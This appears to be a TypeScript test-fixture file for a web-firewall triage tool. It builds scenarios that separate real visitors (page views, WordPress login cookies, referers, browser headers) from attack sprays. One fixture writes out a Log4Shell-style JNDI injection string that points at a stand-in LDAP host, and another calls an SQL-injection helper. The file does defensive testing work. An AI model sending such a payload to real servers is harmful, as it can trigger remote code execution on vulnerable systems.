// HUMAN and CROSS: signs of a person, and what others did.
import { lacking, row, type Row } from './rows.ts';
import { FETCH, hit, posted, refused, type Sent, sqli, views, visit, wordpressLogin } from './story.ts';

const mail = { sent: [refused(0)], mail: { cut: [] } };
const cookie = (name: string): { sent: Sent[] } => ({
  sent: [refused(0, '/api/report', { headers: { Cookie: `${name}=1; lang=sk` } })],
});
const from = (referer: string | null): { sent: Sent[] } => ({
  sent: [refused(0, '/api/report', { referer })],
});
const fetched = (headers: Readonly<Record<string, string>>): { sent: Sent[] } => ({
  sent: [refused(0, '/api/report', { headers })],
});

export const HUMAN: readonly Row[] = [
  row('H1', {
    present: { sent: [...visit(), refused(0)] },
    absent: { sent: [...views(-60, { pages: ['/'] }), refused(0)] },
    unknown: lacking({ sent: [refused(0)] }, 'access'),
  }),
  row('H2', {
    present: { sent: [...wordpressLogin(-120), refused(0)] },
    // The password was sent, and no page behind it was opened.
    absent: { sent: [...wordpressLogin(-120).slice(0, 2), refused(0)] },
    unknown: lacking({ sent: [refused(0)] }, 'access'),
  }),
  row('H2c', {
    present: cookie('wordpress_logged_in_5f2b'),
    absent: cookie('wordpress_test_cookie'),
    unknown: lacking(cookie('wordpress_logged_in_5f2b'), 'audit'),
  }),
  row('H3', {
    present: from('https://SITE/contact/'),
    absent: from('https://search.example.net/?q=lamp'),
    unknown: mail,
  }),
  row('H4', {
    present: { sent: [...visit(), refused(0)] },
    absent: { sent: [{ at: -20, uri: '/' }, { at: -10, uri: '/img/logo.png' }, refused(0)] },
    unknown: lacking({ sent: [refused(0)] }, 'access'),
  }),
  row('H4x', {
    present: {
      sent: [
        ...['/', '/a/', '/b/', '/c/', '/d/'].map((uri, nth) => ({ at: -100 + nth * 15, uri })),
        refused(0),
      ],
    },
    absent: { sent: [{ at: -20, uri: '/' }, { at: -10, uri: '/a/' }, refused(0)] },
    unknown: lacking({ sent: [refused(0)] }, 'access'),
  }),
  row('H5', {
    present: fetched(FETCH),
    absent: fetched({ ...FETCH, 'Sec-Ch-Ua': '"HeadlessChrome";v="99"', 'Sec-Fetch-Site': 'none' }),
    unknown: lacking(fetched(FETCH), 'audit'),
  }),
];

/** Ordinary visitors who were refused for the same field at the same place. */
export function crowd(count: number, make: (at: number, who: number) => Sent): Sent[] {
  return Array.from({ length: count }, (_, nth) => [
    ...visit({ who: nth + 1 }),
    make(30 + nth, nth + 1),
  ]).flat();
}

const wish = (at: number, who?: number): Sent =>
  posted(
    at,
    ['/wishlist/', '942440', 'colours'],
    { colours: 'red--blue, green--white' },
    who === undefined ? {} : { who },
  );
/** 942440 in the stories above weighs 5 points: it alone refuses. */
const crowded = (count: number): { sent: Sent[] } => ({ sent: [...visit(), wish(0), ...crowd(count, wish)] });

const PAYLOAD = '${jndi:ldap://198.51.100.9/a}';
const spray = (count: number): { sent: Sent[] } => ({
  sent: Array.from({ length: count }, (_, nth) => {
    const one: Sent = {
      at: nth * 60,
      uri: `/?x=${encodeURIComponent(PAYLOAD)}`,
      ...(nth === 0 ? {} : { host: `@${'bcde'.charAt(nth - 1)}`, who: nth }),
      hits: [hit('944150', 'ARGS:x', PAYLOAD, '${jndi')],
    };
    return one;
  }),
});

export const CROSS: readonly Row[] = [
  row('X1', { present: crowded(3), absent: crowded(2), unknown: mail }),
  row('X1b', { present: crowded(6), absent: crowded(4), unknown: mail }),
  row('X2', { present: spray(4), absent: spray(2), unknown: mail }),
  row('X3', {
    present: {
      sent: [
        posted(0, ['/wp-json/wp/v2/posts/412', '941180', 'content'], {
          content: 'We use document.cookie on this page',
        }),
      ],
    },
    absent: { sent: [sqli(0, ['/list.php', 'sort'], 'price%')] },
    unknown: mail,
  }),
];
